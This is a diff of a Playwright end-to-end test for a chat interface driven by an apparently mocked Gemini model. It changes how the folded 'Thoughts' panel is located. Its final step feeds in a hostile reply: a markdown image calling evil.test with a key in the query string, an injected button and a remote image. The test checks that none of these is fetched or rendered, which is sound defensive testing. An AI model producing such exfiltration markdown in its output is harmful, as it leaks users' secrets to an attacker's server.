@@ -148,10 +148,9 @@ def an_answer_is_followed_stopped_left_and_tried_again(page: Page, gemini: Gemin
         gemini.release()
         expect_rest(page)
         expect(page.locator("#chat .thought")).to_have_count(0)
-        steps = page.locator("#chat details.steps").last
-        steps.locator("summary").first.click()
-        steps.get_by_text("Thoughts").click()
-        expect(steps.locator(".thoughts .md")).to_contain_text("It should be soft, <b>not</b> grey.")
+        folded = page.locator("#chat details.thoughts").last
+        folded.get_by_text("Thoughts").click()
+        expect(folded.locator(".md")).to_contain_text("It should be soft, <b>not</b> grey.")
     with step("a picture from elsewhere is not fetched, nor a button made"):
         hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
         gemini.control(on_text=[words(hostile, chunks=3)])
